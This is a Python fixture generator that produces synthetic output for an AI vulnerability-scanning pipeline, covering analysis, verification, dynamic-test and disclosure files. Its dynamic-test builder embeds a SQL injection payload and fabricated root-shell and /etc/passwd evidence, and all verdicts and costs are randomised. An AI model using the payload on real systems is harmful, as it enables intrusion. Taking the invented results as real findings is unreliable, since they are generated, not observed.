        "trust_boundaries": {"http": "All request parameters are attacker-controlled",
                             "database": "Trusted internal PostgreSQL"},
        "security_model": "Session cookies + JWT for API; admin routes require the admin role",
        "not_a_vulnerability": ["Debug endpoints only bound to localhost"],
        "requires_remote_trigger": True,
        "confidence": 0.85,
        "evidence": ["README.md mentions Flask", "app/routes/*.py register HTTP routes"],
        "source": "llm",
    }


# ---------------------------------------------------------------------------------------------
# Builders: enhance (spec §1.4.6, §2.3, §3.1)
# ---------------------------------------------------------------------------------------------


def enhance_working(sc, dataset):
    units = dataset["units"]
    if any("diff_selected" in x for x in units):
        return [x for x in units if x.get("diff_selected")]
    return list(units)


def build_enhance(sc, dataset):
    """Returns (dataset_enhanced, checkpoints {filename: obj} in unit order, summary, step summary)."""
    legacy = sc.era == "legacy"
    enh = json.loads(json.dumps(dataset))  # deep copy, same key order
    by_id = {u.id: u for u in sc.units}
    all_code = {x["id"]: x["code"]["primary_code"] for x in dataset["units"]}
    cps = {}
    work = enhance_working(sc, enh)
    sum_in = sum_out = 0
    sum_cost = 0.0
    errors = 0
    breakdown = {}
    for x in work:
        u = by_id[x["id"]]
        tin = sc.rng.randint(8000, 60000)
        tout = sc.rng.randint(600, 4000)
        cost = sc.money(tin, tout)
        if u.enh_error is not None:
            if isinstance(u.enh_error, str):
                ac = {"error": u.enh_error, "security_classification": "neutral", "confidence": 0.0}
            else:
                ac = {"error": dict(u.enh_error), "security_classification": "neutral", "confidence": 0.0}
            tin = tout = 0
            cost = 0.0
        else:
            incs = [i for i in u.includes if i in all_code]
            if incs:
                code = x["code"]
                pc = code["primary_code"]
                for i in incs:
                    pc += BOUNDARY + all_code[i]
                code["primary_code"] = pc
                po = code["primary_origin"]
                po["files_included"] = po["files_included"] + [i.rpartition(":")[0] for i in incs
                                                               if i.rpartition(":")[0] not in po["files_included"]]
                po["enhanced" if legacy else "deps_inlined"] = True
                po["enhanced_length"] = len(pc)
            if legacy:
                meta = {"iterations": sc.rng.randint(2, 9), "total_tokens": tin + tout}
            else:
                meta = {"iterations": sc.rng.randint(2, 9), "total_tokens": tin + tout,
                        "input_tokens": tin, "output_tokens": tout, "cost_usd": cost}
            ac = {
                "include_functions": [{"id": i, "reason": "Called with the attacker-controlled value"} for i in incs],
                "usage_context": "%s is reached from %s" % (u.fname, "an HTTP route" if u.entry or u.route else "internal callers"),
                "security_classification": u.enh,
                "classification_reasoning": {
                    "exploitable": "User input from the request reaches a sensitive sink without validation",
                    "vulnerable_internal": "Dangerous sink, but only reachable through internal callers",
                    "security_control": "Implements authentication/validation used by other units",
                    "neutral": "No security-relevant data flow",
                    "incomplete": "Analysis incomplete",
                }[u.enh],
                "confidence": round(0.6 + sc.rng.random() * 0.35, 2),
                "agent_metadata": meta,
                "reachability": {"is_entry_point": bool(u.entry or u.route),
                                 "reachable_from_entry": True,
                                 "entry_point_path": ([u.route["method"] + " " + u.route["path"]] if u.route else
                                                      (["HTTP route " + u.fname] if u.entry else []))},
            }
        x["agent_context"] = ac  # appended last (the input unit had none)
        cp = {"id": x["id"], "agent_context": ac, "code": x["code"]}
        if tin or tout:
            cp["usage"] = {"input_tokens": tin, "output_tokens": tout, "cost_usd": cost}
        cps[safe_filename(x["id"]) + ".json"] = cp
        if isinstance(ac.get("error"), dict) or isinstance(ac.get("error"), str):
            errors += 1
            et = ac["error"].get("type", "unknown") if isinstance(ac["error"], dict) else "unknown"
            breakdown[et] = breakdown.get(et, 0) + 1
        sum_in += tin
        sum_out += tout
        sum_cost += cost
    # metadata (spec §3.1.4)
    st = {"units_processed": 0, "units_with_context": 0, "total_iterations": 0, "functions_added": 0,
          "security_controls_found": 0, "exploitable_found": 0, "vulnerable_found": 0, "neutral_found": 0,
          "errors": 0, "error_summary": {}}
    if legacy:
        del st["exploitable_found"]
        del st["error_summary"]
    for x in work:
        ac = x.get("agent_context")
        if not ac:
            continue
        if ac.get("error"):
            st["errors"] += 1
            if not legacy:
                et = ac["error"].get("type", "unknown") if isinstance(ac["error"], dict) else "legacy_string"
                st["error_summary"][et] = st["error_summary"].get(et, 0) + 1
            continue
        st["units_processed"] += 1
        if ac.get("include_functions"):
            st["units_with_context"] += 1
            st["functions_added"] += len(ac["include_functions"])
        c = ac.get("security_classification")
        if c == "security_control":
            st["security_controls_found"] += 1
        elif c == "exploitable" and not legacy:
            st["exploitable_found"] += 1
        elif c == "vulnerable_internal":
            st["vulnerable_found"] += 1
        else:
            st["neutral_found"] += 1
        st["total_iterations"] += ac.get("agent_metadata", {}).get("iterations", 0)
    enh["metadata"]["agentic_enhanced"] = True
    enh["metadata"]["enhancement_mode"] = "agentic"
    enh["metadata"]["agentic_stats"] = st
    # token usage: a resumed standalone-equivalent total (spec §3.1.4)
    enh["metadata"]["token_usage"] = {"total_calls": 0 if sc.restored else sum(
        (x.get("agent_context", {}).get("agent_metadata", {}) or {}).get("iterations", 0) for x in work),
        "total_input_tokens": sum_in, "total_output_tokens": sum_out,
        "total_tokens": sum_in + sum_out, "total_cost_usd": round(sum_cost, 6)}
    summary = {"step": "enhance", "phase": "done", "timestamp": utc_z(sc.t0 + 400, 120044),
               "total_units": len(work), "completed": len(work) - errors, "errors": errors,
               "error_breakdown": breakdown,
               "usage": {"input_tokens": sum_in, "output_tokens": sum_out, "cost_usd": round(sum_cost, 6)}}
    # step-report summary (spec §3.1.6): over ALL output units
    err_count = 0
    err_sum = {}
    classes = {}
    for x in enh["units"]:
        ac = x.get("agent_context", {})
        if ac.get("error"):
            err_count += 1
            et = ac["error"].get("type", "unknown") if isinstance(ac["error"], dict) else "legacy_string"
            err_sum[et] = err_sum.get(et, 0) + 1
        else:
            c = ac.get("security_classification", "unknown")
            classes[c] = classes.get(c, 0) + 1
    step_summary = {"units_enhanced": len(enh["units"]) - err_count, "error_count": err_count,
                    "classifications": classes, "mode": "agentic"}
    if err_sum:
        step_summary["error_summary"] = err_sum
    usage = (sum_in, sum_out, sum_cost)
    return enh, cps, summary, step_summary, usage


# ---------------------------------------------------------------------------------------------
# Builders: analyze (spec §1.4.7, §2.3, §3.2)
# ---------------------------------------------------------------------------------------------

REASONING = {
    "vulnerable": "The %s value flows from the request into a dangerous sink without sanitisation.",
    "bypassable": "A check exists, but the %s validation can be bypassed with an encoded payload.",
    "safe": "%s handles only trusted data; no security-relevant sink is reached.",
    "protected": "%s validates and rejects tampered input before use.",
    "inconclusive": "Behaviour of %s depends on configuration that is not visible in the code.",
    "insufficient_context": "The callee that %s delegates to is not in the provided context.",
}


def analyze_units(sc, dataset_in):
    units = dataset_in["units"]
    if any("diff_selected" in x for x in units):
        units = [x for x in units if x.get("diff_selected")]
    return units


def stage1_result(sc, u, unit):
    """One StageOneResult, keys in OpenAnt order (spec §1.4.7)."""
    legacy = sc.era == "legacy"
    code = unit["code"]["primary_code"]
    po = unit["code"]["primary_origin"]
    ac = unit.get("agent_context", {})
    route = unit.get("route") or {}
    route_key = ("%s:%s" % (route.get("method", "GET"), route.get("path", "/unknown"))) if route else unit["id"]
    elapsed = round(4 + sc.rng.random() * 40, 6) + sc.rng.randint(1, 999) * 1e-9
    if u.error == "exception":
        return {"unit_id": u.id, "verdict": "ERROR", "finding": "error",
                "error": "Error code: 529 - {'type': 'error', 'error': {'type': 'overloaded_error', 'message': 'Overloaded'}}"}, u.id, ""
    if u.error == "parse":
        raw = '{"function_analyzed": "%s", "finding": "vulnerable", "reasoning": "The report id is interpolated' % u.fname
        r = {"verdict": "ERROR", "confidence": 0, "vulnerabilities": [],
             "reasoning": "Failed to parse response: Unterminated string starting at: line 1 column 62 (char 61)",
             "raw_response": raw[:500]}
    else:
        r = {"function_analyzed": u.fname, "finding": u.finding,
             "reasoning": REASONING[u.finding] % u.fname,
             "attack_vector": ATTACK.get(u.kind) if u.finding in ("vulnerable", "bypassable") else None,
             "confidence": round(0.55 + sc.rng.random() * 0.4, 2)}
        if not legacy:
            if u.finding in ("vulnerable", "bypassable"):
                r["cwe_id"], r["cwe_name"] = CWE[u.kind]
            else:
                r["cwe_id"], r["cwe_name"] = 0, None
        r["verdict"] = u.finding.upper()
    tin_code = len(code)
    r["route_key"] = route_key
    r["elapsed_seconds"] = elapsed
    r["prompt_length"] = tin_code + 4200 + len(u.id)
    r["response_length"] = 300 + sc.rng.randint(0, 900)
    r["code_length"] = tin_code + 60
    r["files_included"] = list(po.get("files_included", []))
    if legacy:
        r["is_enhanced"] = po.get("enhanced", False)
    else:
        r["has_deps_inlined"] = po.get("deps_inlined", False)
    r["context_reviewed"] = bool(ac) and not ac.get("error")
    if ac.get("security_classification"):
        r["security_classification"] = ac["security_classification"]
        r["classification_reasoning"] = None
    r["unit_id"] = u.id
    if u.error == "parse":
        r["finding"] = "error"
    return r, route_key, code


def count_verdicts(results, fork=False):
    counts = {"vulnerable": 0, "bypassable": 0, "inconclusive": 0}
    if fork:
        counts["insufficient_context"] = 0
    counts.update({"protected": 0, "safe": 0, "errors": 0})
    for r in results:
        f = r["finding"] if "finding" in r else (r.get("verdict", "error") or "error").lower()
        if f in counts:
            counts[f] += 1
        elif r.get("verdict") == "ERROR":
            counts["errors"] += 1
    return counts


def build_analyze(sc, dataset_in, dataset_name):
    """Returns (results_obj, checkpoints, summary, step_summary, usage)."""
    by_id = {u.id: u for u in sc.units}
    units = analyze_units(sc, dataset_in)
    fork = sc.era == "fork"
    results = []
    restored_cbr = []
    late_cbr = []
    cps = {}
    sum_in = sum_out = 0
    sum_cost = 0.0
    errors = 0
    for i, unit in enumerate(units):
        u = by_id[unit["id"]]
        r, rk, cfr = stage1_result(sc, u, unit)
        if u.error == "exception":
            tin, tout = 0, 0
        else:
            tin, tout = len(cfr) // 3 + 2500, sc.rng.randint(250, 1400)
        cost = sc.money(tin, tout) if tin else 0.0
        cp = {"result": r, "route_key": rk, "code_for_route": cfr,
              "usage": {"input_tokens": tin, "output_tokens": tout, "cost_usd": cost}, "id": u.id}
        cps[safe_filename(u.id) + ".json"] = cp
        results.append(r)
        is_err = r.get("verdict") == "ERROR" or r.get("finding") == "error"
        if is_err:
            errors += 1
            late_cbr.append((rk, cfr))
        else:
            restored_cbr.append((rk, cfr))
        sum_in += tin
        sum_out += tout
        sum_cost += cost
    # code_by_route: restored entries in unit order, errored (re-run) entries after them (§3.2.2).
    code_by_route = {}
    for k, v in restored_cbr + late_cbr:
        code_by_route[k] = v
    results = json.loads(json.dumps(results))  # results.json does not share objects with checkpoints
    if sc.consistency_update:
        # Stage-1 consistency check (fresh run): the LLM aligned one unit of an inconsistent group.
        for r in results:
            if r.get("unit_id") == "app/routes/users.py:create_user":
                r["verdict"] = "VULNERABLE"
                r["stage1_consistency_update"] = {
                    "from": "SAFE", "to": "VULNERABLE",
                    "reason": "Same unparameterised query pattern as get_user; page is user-controlled",
                    "pattern": "users.py:*_user"}
    if fork:
        results.sort(key=lambda r: r.get("unit_id", ""))
    model_id = {"opus": OPUS, "sonnet": SONNET_FORK if fork else SONNET_FIX}[sc.model]
    counts = count_verdicts(results, fork=fork)
    metrics = {"total": len(units)}
    metrics.update(counts)
    res = {"dataset": dataset_name, "model": model_id, "timestamp": local_naive(sc.t0 + 1500, 734512),
           "metrics": metrics, "results": results, "code_by_route": code_by_route}
    summary = {"step": "Analyze", "phase": "done", "timestamp": utc_z(sc.t0 + 1499, 991203),
               "total_units": len(units), "completed": len(units) - errors, "errors": errors,
               "error_breakdown": {"api": errors} if errors else {},
               "usage": {"input_tokens": sum_in, "output_tokens": sum_out, "cost_usd": round(sum_cost, 6)}}
    c = count_verdicts(results)
    step_summary = {"total_units": len(units), "analyzed": len(units) - c["errors"],
                    "verdicts": {k: c[k] for k in ("vulnerable", "bypassable", "inconclusive", "protected", "safe", "errors")}}
    return res, cps, summary, step_summary, (sum_in, sum_out, sum_cost)


# ---------------------------------------------------------------------------------------------
# Builders: verify (spec §1.4.8, §2.3, §3.3)
# ---------------------------------------------------------------------------------------------

def verify_candidates(results):
    return [r for r in results
            if (r["finding"] if "finding" in r else r.get("verdict", "").lower()) in ("vulnerable", "bypassable")]


def build_verify(sc, results_obj):
    """Returns (results_verified, checkpoints, summary, step_summary, usage, explanations)."""
    legacy = sc.era == "legacy"
    fork = sc.era == "fork"
    by_id = {u.id: u for u in sc.units}
    res = json.loads(json.dumps(results_obj))
    all_results = res["results"]
    cands = verify_candidates(all_results)
    cps = {}
    sum_in = sum_out = 0
    sum_cost = 0.0
    agreed = disagreed = confirmed_n = 0
    explanations = {}
    for r in cands:
        u = by_id[r["unit_id"]]
        agree, correct = u.verify
        stage1 = r["finding"]
        tin, tout = sc.rng.randint(20000, 90000), sc.rng.randint(1500, 6000)
        cost = sc.money(tin, tout)
        v = {"agree": agree, "correct_finding": correct,
             "explanation": ("Confirmed: %s" if agree else "Stage 1 was wrong: %s") % ATTACK.get(u.kind, "no exploitable path"),
             "iterations": sc.rng.randint(3, 12), "total_tokens": tin + tout}
        if u.exploit_path:
            v["exploit_path"] = dict(u.exploit_path)
        elif agree:
            v["exploit_path"] = {"entry_point": "HTTP request", "data_flow": ["request parameter", u.fname + "()", "sink"],
                                 "sink_reached": True, "attacker_control_at_sink": "partial", "path_broken_at": None}
        if correct in ("vulnerable", "bypassable"):
            v["security_weakness"] = "%s (CWE-%d)" % (CWE[u.kind][1], CWE[u.kind][0])
        note = "" if agree else "Changed from %s to %s" % (stage1, correct)
        if not agree:
            r["finding"] = correct
        r["verification"] = v
        if sc.restored or not agree:
            r["verification_note"] = note
        key = r.get("unit_id") or r.get("route_key") or "unknown"
        cp = {"verification": v, "finding": r["finding"], "verification_note": note,
              "usage": {"input_tokens": tin, "output_tokens": tout, "cost_usd": cost}, "id": key}
        cps[safe_filename(key) + ".json"] = json.loads(json.dumps(cp))
        sum_in += tin
        sum_out += tout
        sum_cost += cost
        if agree:
            agreed += 1
            if r["finding"] in ("vulnerable", "bypassable"):
                confirmed_n += 1
        else:
            disagreed += 1
        explanations[r.get("route_key")] = (r["route_key"], v)
    counts = count_verdicts(all_results)
    metrics = {"total": len(all_results)}
    metrics.update(counts)
    out = {"dataset": res.get("dataset", ""), "model": res.get("model", ""), "timestamp": res.get("timestamp", ""),
           "verify": True, "metrics": metrics, "results": all_results}
    if fork:
        out["code_by_route"] = res.get("code_by_route", {})
    if legacy:
        conf = [r for r in cands if r.get("verification", {}).get("agree") is True
                and r.get("finding", "").lower() in ("vulnerable", "bypassable")]
    else:
        conf = [r for r in cands if r.get("finding", "").lower() in ("vulnerable", "bypassable")]
    out["confirmed_findings"] = conf
    summary = {"step": "Verify", "phase": "done", "timestamp": utc_z(sc.t0 + 2600, 5012),
               "total_units": len(cands), "completed": len(cands), "errors": 0, "error_breakdown": {},
               "usage": {"input_tokens": sum_in, "output_tokens": sum_out, "cost_usd": round(sum_cost, 6)}}
    step_summary = {"findings_input": len(cands), "findings_verified": len(cands), "agreed": agreed,
                    "disagreed": disagreed, "confirmed_vulnerabilities": confirmed_n}
    return out, cps, summary, step_summary, (sum_in, sum_out, sum_cost), explanations


def explanation_md(route_key, v):
    lines = ["# %s\n" % route_key, "**Verdict:** %s" % v["correct_finding"],
             "**Agrees with Stage 1:** %s\n" % v["agree"]]
    ep = v.get("exploit_path")
    if ep:
        lines.append("## Exploit Path\n")
        if ep.get("entry_point"):
            lines.append("**Entry point:** %s\n" % ep["entry_point"])
        if ep.get("data_flow"):
            lines.append("**Data flow:**")
            for s in ep["data_flow"]:
                lines.append("1. %s" % s)
            lines.append("")
        lines.append("**Sink reached:** %s" % ep["sink_reached"])
        lines.append("**Attacker control at sink:** %s" % ep["attacker_control_at_sink"])
        if ep.get("path_broken_at"):
            lines.append("**Path broken at:** %s" % ep["path_broken_at"])
        lines.append("")
    lines.append("## Explanation\n")
    lines.append(v["explanation"])
    if v.get("security_weakness"):
        lines.append("\n## Security Weakness\n\n%s" % v["security_weakness"])
    return "\n".join(lines)


# ---------------------------------------------------------------------------------------------
# Builders: pipeline_output (spec §1.4.9, §3.4)
# ---------------------------------------------------------------------------------------------

FENCE = {"python": "python", "py": "python", "javascript": "javascript", "js": "javascript",
         "typescript": "typescript", "ts": "typescript", "go": "go", "golang": "go", "java": "java",
         "ruby": "ruby", "rb": "ruby", "php": "php", "rust": "rust", "c": "c", "cpp": "cpp",
         "c++": "cpp", "csharp": "csharp", "c#": "csharp"}


def dedup(confirmed, all_results, call_graph):
    if call_graph is None:
        return confirmed
    rcg = call_graph.get("reverse_call_graph", {})
    cwe_by_key = {}
    for f in confirmed:
        rk = f.get("route_key") or f.get("unit_id", "")
        cwe = f.get("cwe_id")
        if cwe is None:
            full = next((r for r in all_results if (r.get("route_key") or r.get("unit_id")) == rk), None)
            cwe = full.get("cwe_id", 0) if full else 0
        cwe_by_key[rk] = cwe
    remove = set()
    for callee, callers in rcg.items():
        if len(callers) != 1:
            continue
        caller = callers[0]
        if caller not in cwe_by_key or callee not in cwe_by_key:
            continue
        if cwe_by_key[caller] and cwe_by_key[caller] != 0 and cwe_by_key[caller] == cwe_by_key[callee]:
            remove.add(callee)
    return [f for f in confirmed if (f.get("route_key") or f.get("unit_id", "")) not in remove]


def build_pipeline_output(sc, experiment, call_graph, step_reports, app_type, diff_block):
    legacy = sc.era == "legacy"
    all_results = experiment.get("results", [])
    code_by_route = experiment.get("code_by_route", {})
    metrics = experiment.get("metrics", {})
    confirmed = experiment.get("confirmed_findings")
    if confirmed is None:
        confirmed = [r for r in all_results
                     if r.get("finding", r.get("verdict", "").lower()) in ("vulnerable", "bypassable")]
    if not legacy:
        confirmed = dedup(confirmed, all_results, call_graph)
    findings = []
    for i, f in enumerate(confirmed):
        rk = f.get("route_key") or f.get("unit_id", "unknown")
        full = next((r for r in all_results if (r.get("route_key") or r.get("unit_id")) == rk), f)
        vulns = f.get("vulnerabilities", [])
        vuln = vulns[0] if vulns else {}
        desc = vuln.get("description") or f.get("reasoning") or full.get("reasoning")
        vcode = vuln.get("vulnerable_code") or code_by_route.get(rk)
        file_path = rk.split(":")[0] if ":" in rk else "unknown"
        if vcode:
            vcs = "## Vulnerable Code\n\n`%s`:\n\n```%s\n%s\n```" % (file_path, FENCE.get((sc.lang or "").lower(), ""), vcode)
        else:
            vcs = ""
        impact = vuln.get("impact") or f.get("attack_vector")
        steps = vuln.get("steps_to_reproduce")
        if not steps:
            parts = []
            if f.get("attack_vector"):
                parts.append(f["attack_vector"])
            ep = f.get("exploit_path") or {}
            if ep.get("data_flow"):
                parts.append("Data flow: " + " -> ".join(ep["data_flow"]))
            if f.get("verification_explanation"):
                parts.append("Verification: " + f["verification_explanation"])
            steps = "\n\n".join(parts) if parts else None
        v = f.get("verification", {})
        if v.get("agree", False):
            s2 = "confirmed" if f.get("exploit_path") else "agreed"
        elif v:
            s2 = "rejected"
        else:
            s2 = f.get("finding", "vulnerable")
        d = {"id": "VULN-%03d" % (i + 1),
             "name": vuln.get("name", f.get("finding", "Unknown Vulnerability")),
             "short_name": vuln.get("short_name", f.get("verdict", "vuln")),
             "location": {"file": file_path, "function": rk}}
        if legacy:
            d["cwe_id"] = vuln.get("cwe_id", 0)
            d["cwe_name"] = vuln.get("cwe_name", "Unknown")
        else:
            d["cwe_id"] = vuln.get("cwe_id") or f.get("cwe_id") or full.get("cwe_id", 0)
            d["cwe_name"] = vuln.get("cwe_name") or f.get("cwe_name") or full.get("cwe_name", "Unknown")
        d["stage1_verdict"] = f.get("verdict", f.get("finding", "vulnerable"))
        d["stage2_verdict"] = s2
        d["description"] = desc
        d["vulnerable_code"] = vcode
        if not legacy:
            d["vulnerable_code_section"] = vcs
        d["impact"] = impact
        d["suggested_fix"] = vuln.get("suggested_fix")
        d["steps_to_reproduce"] = steps
        findings.append(d)
    costs = {}
    durations = {}
    for sr in step_reports:
        step = sr.get("step", "unknown")
        if sr.get("cost_usd"):
            costs[step] = {"actual": sr["cost_usd"]}
        if sr.get("duration_seconds"):
            durations[step] = sr["duration_seconds"]
    total_units = metrics.get("total", len(all_results))
    po = {
        "repository": {"name": sc.repo_name or experiment.get("dataset", "unknown"), "url": sc.repo_url or "",
                       "language": sc.lang or "", "commit_sha": sc.commit},
        "analysis_date": utc_iso(sc.t0 + 2700, 318274),
        "application_type": app_type,
        "pipeline_stats": {"total_units": total_units, "reachable_units": total_units,
                           "units_analyzed": total_units - metrics.get("errors", 0),
                           "processing_level": sc.level, "costs": costs, "durations": durations,
                           "skipped_steps": []},
        "results": {"vulnerable": metrics.get("vulnerable", 0) + metrics.get("bypassable", 0),
                    "safe": metrics.get("safe", 0) + metrics.get("protected", 0),
                    "inconclusive": metrics.get("inconclusive", 0), "total": total_units},
        "findings": findings,
    }
    if diff_block is not None:
        po["diff"] = diff_block
    return po


def diff_block_of(manifest, stats):
    out = {"mode": "incremental", "base_ref": manifest.get("base_ref"), "base_sha": manifest.get("base_sha"),
           "head_sha": manifest.get("head_sha"), "scope": manifest.get("scope"),
           "pr_number": manifest.get("pr_number") or None,
           "changed_files": len(manifest.get("changed_files") or [])}
    if stats is not None:
        out["units_in_diff"] = stats.get("selected")
        out["units_total_parsed"] = stats.get("total")
        out["callers_added"] = stats.get("callers_added") or 0
        out["fallback_file_match"] = stats.get("fallback_file_match") or 0
    return out


# ---------------------------------------------------------------------------------------------
# Builders: dynamic test (spec §1.4.10, §3.5)
# ---------------------------------------------------------------------------------------------

DYN_DETAILS = {
    "CONFIRMED": "Exploit succeeded: the payload reached the sink and the canary was observed.",
    "NOT_REPRODUCED": "The payload was rejected by the running application (HTTP 400).",
    "BLOCKED": "Container could not start: dependency 'libpq' missing in the generated image.",
    "INCONCLUSIVE": "Response differed from baseline but the canary was not observed.",
    "ERROR": "Test generation failed: model returned no code block.",
}


def build_dynamic(sc, po):
    legacy = sc.era == "legacy"
    by_key = {}
    for u in sc.units:
        by_key[u.id] = u
        if u.route:
            by_key["%s:%s" % (u.route["method"], u.route["path"])] = u
    cps = {}
    results = []
    for i, f in enumerate(po["findings"]):
        u = by_key[f["location"]["function"]]
        st = u.dyn or "INCONCLUSIVE"
        tin, tout = sc.rng.randint(3000, 12000), sc.rng.randint(800, 3500)
        cost = sc.money(tin, tout) if st != "ERROR" else 0.0
        ev = []
        if st == "CONFIRMED":
            ev = [{"type": "http_response", "content": "HTTP/1.1 200 OK\nContent-Type: text/html\n\nroot:x:0:0:root:/root:/bin/bash\ncanary-7f3a"},
                  {"type": "command_output", "content": "uid=0(root) gid=0(root) — canary présent ✓ 🐜"}]
        elif st == "NOT_REPRODUCED":
            ev = [{"type": "http_response", "content": "HTTP/1.1 400 Bad Request\n\n{\"error\": \"invalid input\"}"}]
        test_code = "" if st == "ERROR" else (
            "import requests\n\nBASE = 'http://target:8000'\n\n\ndef test_%s():\n"
            "    r = requests.get(BASE + '/', params={'q': \"' OR '1'='1\"}, timeout=10)\n"
            "    assert 'canary' in r.text, r.text[:200]\n" % u.fname.lower())
        d = {"finding_id": f["id"], "status": st, "details": DYN_DETAILS[st],
             "evidence": ev, "test_code": test_code,
             "dockerfile": "" if st == "ERROR" else "FROM python:3.11-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt\nCMD [\"python\", \"-m\", \"app\"]\n",
             "docker_compose": "" if st in ("ERROR", "BLOCKED") else "services:\n  target:\n    build: .\n  attacker:\n    image: python:3.11-slim\n",
             "elapsed_seconds": round(20 + sc.rng.random() * 200, 2),
             "generation_cost_usd": round(cost, 6)}
        if not legacy:
            d["generation_input_tokens"] = tin if st != "ERROR" else 0
            d["generation_output_tokens"] = tout if st != "ERROR" else 0
        d["retry_count"] = 0 if st in ("CONFIRMED", "ERROR") else sc.rng.randint(0, 2)
        cp = dict(d)
        cp["id"] = f["id"]
        cps[safe_filename(f["id"]) + ".json"] = json.loads(json.dumps(cp))
        if sc.restored and not legacy:
            d = dict(d)
            d["evidence"] = []  # OpenAnt does not restore evidence (spec §3.5.2)
        results.append(d)
    total_cost = 0.0
    for name in sorted(cps):
        total_cost += cps[name].get("generation_cost_usd", 0)
    out = {"repository": po.get("repository", {}).get("name", "unknown"), "total_findings": len(po["findings"]),
           "total_cost_usd": round(total_cost, 6), "results": results}
    counts = {}
    for r in results:
        counts[r["status"]] = counts.get(r["status"], 0) + 1
    summary = {"step": "dynamic_test", "phase": "done", "timestamp": utc_z(sc.t0 + 3900, 700001),
               "total_units": len(po["findings"]), "completed": len(results), "errors": counts.get("ERROR", 0),
               "error_breakdown": {}}
    step_summary = {"findings_tested": len(results), "confirmed": counts.get("CONFIRMED", 0),
                    "not_reproduced": counts.get("NOT_REPRODUCED", 0), "blocked": counts.get("BLOCKED", 0),
                    "inconclusive": counts.get("INCONCLUSIVE", 0), "errors": counts.get("ERROR", 0)}
    md = dynamic_md(results, out["repository"], total_cost, sc.t0 + 3900)
    tin = sum(c.get("generation_input_tokens", 0) for c in cps.values())
    tout = sum(c.get("generation_output_tokens", 0) for c in cps.values())
    return out, cps, summary, step_summary, md, (tin, tout, total_cost)


def dynamic_md(results, repo, total_cost, t):
    lines = ["# Dynamic Test Results: %s" % repo, "",
             "**Date:** %s" % time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime(t)),
             "**Total Findings Tested:** %d" % len(results), "**Total Cost:** $%.4f" % total_cost, "",
             "## Summary", "", "| Status | Count |", "|--------|-------|"]
    order = ["CONFIRMED", "NOT_REPRODUCED", "BLOCKED", "INCONCLUSIVE", "ERROR"]
    for s in order:
        lines.append("| %s | %d |" % (s, sum(1 for r in results if r["status"] == s)))
    lines += ["| **Total** | **%d** |" % len(results), ""]
    for s in order:
        rs = [r for r in results if r["status"] == s]
        if not rs:
            continue
        lines += ["## %s (%d)" % (s, len(rs)), ""]
        for r in rs:
            lines += ["### %s" % r["finding_id"], "", "**Status:** %s" % r["status"],
                      "**Details:** %s" % r["details"], "**Time:** %.1fs" % r["elapsed_seconds"],
                      "**Generation Cost:** $%.4f" % r["generation_cost_usd"], ""]
            if r["evidence"]:
                lines += ["**Evidence:**", ""]
                for e in r["evidence"]:
                    lines += ["- **%s:**" % e["type"], "```", e["content"][:2000], "```", ""]
            if r["test_code"]:
                lines += ["<details>", "<summary>Generated Test Code</summary>", "", "```python", r["test_code"],
                          "```", "", "</details>", ""]
    return "\n".join(lines)


# ---------------------------------------------------------------------------------------------
# Step reports (spec §1.4.11) and the whole scan
# ---------------------------------------------------------------------------------------------


def step_report(step, ts, duration, cost, tin, tout, summary, inputs, outputs, status="success", errors=None):
    return {"step": step, "status": status, "timestamp": ts, "duration_seconds": round(duration, 2),
            "cost_usd": round(cost, 6),
            "token_usage": {"input_tokens": tin, "output_tokens": tout, "total_tokens": tin + tout},
            "summary": summary, "inputs": inputs, "outputs": outputs, "errors": errors or []}


def summary_md(sc, po):
    lines = ["# Security Assessment: %s" % po["repository"]["name"], "",
             "**Analysis date:** %s" % po["analysis_date"][:10], "",
             "## Overview", "",
             "OpenAnt analysed %d units; %d findings survived verification." % (
                 po["pipeline_stats"]["total_units"], len(po["findings"])), "",
             "| ID | Location | CWE | Stage 2 |", "|----|----------|-----|---------|"]
    for f in po["findings"]:
        lines.append("| %s | `%s` | CWE-%s | %s |" % (f["id"], f["location"]["function"], f["cwe_id"], f["stage2_verdict"]))
    lines += ["", "## Notes", "", "Findings are ordered by discovery; see `disclosures/` for details — "
              "each one is written for the maintainers.", ""]
    return "\n".join(lines)


def disclosure_md(f):
    return "\n".join([
        "# Security Disclosure: %s in %s" % (f["cwe_name"] or f["name"], f["location"]["function"]), "",
        "**Severity:** High", "**CWE:** CWE-%s" % f["cwe_id"], "", "## Summary", "", f["description"] or "", "",
        f["vulnerable_code_section"] if f.get("vulnerable_code_section") else "", "",
        "## Impact", "", f["impact"] or "Not determined.", "", "## Steps to Reproduce", "",
        f["steps_to_reproduce"] or "Not determined.", "", "## Suggested Fix", "",
        "Validate and parameterise the input before it reaches the sink.", ""])


def build_scan(sc):
    """Build every file of one scan dir into sc.files (relative path -> bytes)."""
    legacy = sc.era == "legacy"
    fork = sc.era == "fork"
    t = sc.t0
    reports = []    # collected step reports (what build_pipeline_output sees, in order)
    skipped = []
    dataset, analyzer_output, call_graph = build_parse(sc)
    diff_stats = None
    if sc.diff:
        manifest, diff_stats = sc.diff
        sc.put("diff_manifest.json", go_json(manifest))
        sc.pj("diff_filter.report.json", diff_stats)
        if sc.lang == "javascript":
            sc.put("scan_results.json", py_json({"repository": sc.repo_path, "files": sorted({u.file for u in sc.units}),
                                                 "functions": len(sc.units)}, ensure_ascii=False))
    sc.pj("dataset.json", dataset)
    if sc.lang == "javascript":
        # node `JSON.stringify(obj, null, 2)`: raw UTF-8, no trailing newline
        sc.put("analyzer_output.json", py_json(analyzer_output, ensure_ascii=False))
    else:
        sc.pj("analyzer_output.json", analyzer_output)
    if not legacy:
        sc.pj("call_graph.json", call_graph)
    parse_summary = {"total_units": len(dataset["units"]), "language": sc.lang, "processing_level": sc.level}
    if diff_stats is not None:
        parse_summary["diff_stats"] = diff_stats
    r = step_report("parse", utc_z(t, 31337), 12.48, 0.0, 0, 0, parse_summary,
                    {"repo_path": sc.repo_path, "language": sc.lang, "processing_level": sc.level, "skip_tests": True},
                    {"dataset_path": sc.p("dataset.json"), "analyzer_output_path": sc.p("analyzer_output.json")})
    sc.pj("parse.report.json", r)
    reports.append(r)
    app_type = "web_app"
    if sc.context:
        ctx = build_app_context(sc)
        sc.pj("application_context.json", ctx)
        r = step_report("app-context", utc_z(t + 13, 200), 41.07, 0.183525, 9120, 616,
                        {"application_type": ctx["application_type"]}, {"repo_path": sc.repo_path},
                        {"app_context_path": sc.p("application_context.json")})
        sc.pj("app-context.report.json", r)
        reports.append(r)
        app_type = ctx["application_type"] or "web_app"
    else:
        skipped.append("app-context")
    skipped.append("llm-reachability")
    analyze_input = dataset
